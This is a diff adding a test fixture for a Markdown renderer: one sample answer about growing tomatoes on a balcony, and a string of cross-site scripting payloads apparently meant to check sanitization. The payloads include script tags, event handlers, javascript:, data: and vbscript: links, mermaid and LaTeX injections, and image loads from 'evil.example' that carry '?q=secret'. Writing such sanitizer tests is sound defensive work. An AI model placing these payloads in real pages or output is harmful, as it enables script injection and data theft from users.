@@ -1,0 +1,66 @@
+/** An answer with everything that an answer can hold. */
+export const richText = `## Growing tomatoes on a balcony
+
+Tomatoes want **sun**, *warmth* and \`water\`. Here is what matters, and [more about it](https://example.org/tomatoes).
+
+1. Choose a small variety.
+2. Take a pot of at least 20 litres.
+   - with holes in its bottom
+   - on feet, so that water runs off
+
+| Month | Work | Water |
+| --- | :---: | ---: |
+| March | Sow indoors | 0.2 l |
+| May | Plant out | 1.0 l |
+| July | Tie up, pinch out | 2.5 l |
+
+> Never water the leaves.
+
+\`\`\`python
+def water(temperature: float, litres: float = 1.0) -> float:
+    """How much a plant drinks on a day."""
+    if temperature > 30:  # a hot day
+        return litres * 2.5
+    return litres
+\`\`\`
+
+The growth follows $N(t) = N_0 e^{rt}$, and over a season
+
+$$
+\\int_0^T N(t)\\,dt = \\frac{N_0}{r}\\left(e^{rT} - 1\\right)
+$$
+
+- [x] Buy soil
+- [ ] Buy stakes, which cost $3 to $5
+
+![A plant](https://pictures.example.org/plant.png)
+`;
+
+const PICTURE = "https://evil.example/steal.png";
+
+/** Everything that would do harm if any of it became more than text. */
+export const evilText = `<script>window.pwned = 1</script>
+<img src=x onerror="window.pwned = 2">
+<svg onload="window.pwned = 3"><style>@import url(https://evil.example/a.css);</style></svg>
+<iframe src="https://evil.example/frame"></iframe>
+
+[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [tab](java\tscript:window.pwned=6)
+
+![steal](${PICTURE}) ![x](${PICTURE}?q=secret "onerror=alert(1)")
+
+<a href="javascript:window.pwned=7">go</a> &lt;script&gt; <b>bold</b>
+
+\`\`\`html
+<script>window.pwned = 8</script><img src=x onerror=window.pwned=9>
+\`\`\`
+
+\`\`\`mermaid
+graph TD; A["<img src=x onerror='window.pwned=10'>"] --> B; click A "javascript:window.pwned=11"
+\`\`\`
+
+$\\href{javascript:window.pwned=12}{x}$ $\\includegraphics{${PICTURE}}$ $\\class{evil}{\\style{background:url(${PICTURE})}{y}}$
+
+| <img src=x onerror=window.pwned=13> | b |
+| --- | --- |
+| [z](vbscript:window.pwned=14) | <style>body{background:url(${PICTURE})}</style> |
+`;
